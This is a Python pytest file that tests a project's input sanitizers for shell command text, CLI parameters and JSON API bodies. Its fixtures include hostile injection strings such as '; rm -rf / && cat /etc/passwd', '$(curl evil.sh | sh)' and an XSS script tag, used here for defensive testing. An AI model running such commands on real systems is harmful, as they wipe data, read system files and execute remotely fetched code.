"""Tests for the input sanitizers: command text, CLI parameters, API bodies."""

from __future__ import annotations

import pytest

from vaultbridge.security.allowlist import is_valid_command
from vaultbridge.security.sanitizer import (
    sanitize_api_parameters,
    sanitize_input,
    validate_parameter,
)

SHELL_METACHARACTERS = ";&|`$(){}[]<>'\""


# --- sanitize_input ---


class TestSanitizeInput:
    """Tests for the lossy command-text sanitizer."""

    def test_plain_text_unchanged(self) -> None:
        assert sanitize_input("list items") == "list items"

    @pytest.mark.parametrize("char", list(SHELL_METACHARACTERS))
    def test_each_metacharacter_stripped(self, char: str) -> None:
        result = sanitize_input(f"get{char}item")
        assert char not in result
        assert result == "getitem"

    def test_semicolon_is_stripped_not_rejected(self) -> None:
        """A value with a semicolon comes back narrowed, no exception."""
        assert sanitize_input("list;rm") == "listrm"

    def test_command_substitution_stripped(self) -> None:
        assert sanitize_input("get $(whoami)") == "get whoami"
        assert sanitize_input("get `id`") == "get id"

    def test_backslash_and_next_char_dropped(self) -> None:
        assert sanitize_input("ab\\ncd") == "abcd"
        assert sanitize_input("a\\\\b") == "ab"

    def test_null_bytes_removed(self) -> None:
        assert sanitize_input("li\x00st") == "list"

    def test_line_terminators_removed(self) -> None:
        assert sanitize_input("list\r\nitems") == "listitems"

    def test_tabs_become_spaces_and_runs_collapse(self) -> None:
        assert sanitize_input("  list\t\titems    now ") == "list items now"

    def test_empty_string(self) -> None:
        assert sanitize_input("") == ""

    def test_non_string_raises(self) -> None:
        with pytest.raises(TypeError, match="Input must be a string"):
            sanitize_input(42)  # type: ignore[arg-type]

    @pytest.mark.parametrize(
        "value",
        [
            "; rm -rf / && cat /etc/passwd",
            "$(curl evil.sh | sh)",
            "`reboot` {a,b} [x] <in >out 'q' \"dq\"",
            "a & b | c ; d",
        ],
    )
    def test_output_contains_no_metacharacters(self, value: str) -> None:
        result = sanitize_input(value)
        assert not any(c in result for c in SHELL_METACHARACTERS)

    @pytest.mark.parametrize(
        "value",
        ["list items", "  spaced   out  ", "tab\tseparated", "get item abc-123"],
    )
    def test_idempotent_on_clean_input(self, value: str) -> None:
        once = sanitize_input(value)
        assert sanitize_input(once) == once


class TestInjectionScenario:
    """A hostile command string never yields an allowlisted leading verb."""

    def test_chained_rm_is_rejected(self) -> None:
        sanitized = sanitize_input("; rm -rf / && cat /etc/passwd")
        assert sanitized == "rm -rf / cat /etc/passwd"
        assert is_valid_command(sanitized) is False


# --- validate_parameter ---


class TestValidateParameter:
    """Tests for per-argument control byte detection."""

    def test_plain_value_accepted(self) -> None:
        assert validate_parameter("item") is True

    def test_metacharacters_accepted(self) -> None:
        """Shell syntax is inert in an argv element."""
        assert validate_parameter("p@ss;word$(x)|'\"") is True

    @pytest.mark.parametrize("value", ["a\x00b", "a\rb", "a\nb", "\n"])
    def test_control_bytes_rejected(self, value: str) -> None:
        assert validate_parameter(value) is False

    def test_non_string_raises(self) -> None:
        with pytest.raises(TypeError):
            validate_parameter(None)  # type: ignore[arg-type]


# --- sanitize_api_parameters ---


class TestSanitizeApiParameters:
    """Tests for the JSON body sanitizer."""

    def test_script_tag_stripped(self) -> None:
        assert sanitize_api_parameters('<script>alert("xss")</script>') == "scriptalert(xss)/script"

    def test_ampersand_and_quotes_stripped(self) -> None:
        assert sanitize_api_parameters("Tom & Jerry's") == "Tom  Jerrys"

    def test_shell_characters_survive(self) -> None:
        """This sanitizer targets markup, not shells."""
        assert sanitize_api_parameters("a;b|c$d") == "a;b|c$d"

    def test_nested_structures(self) -> None:
        body = {
            "name": "<b>Eng</b>",
            "collections": [{"id": "abc", "readOnly": True}],
            "tags": ("x&y", "z"),
        }
        assert sanitize_api_parameters(body) == {
            "name": "bEng/b",
            "collections": [{"id": "abc", "readOnly": True}],
            "tags": ["xy", "z"],
        }

    def test_keys_sanitized(self) -> None:
        assert sanitize_api_parameters({"<key>": 1}) == {"key": 1}

    @pytest.mark.parametrize("value", [None, 0, 7, 1.5, True, False])
    def test_scalars_pass_through(self, value: object) -> None:
        assert sanitize_api_parameters(value) is value
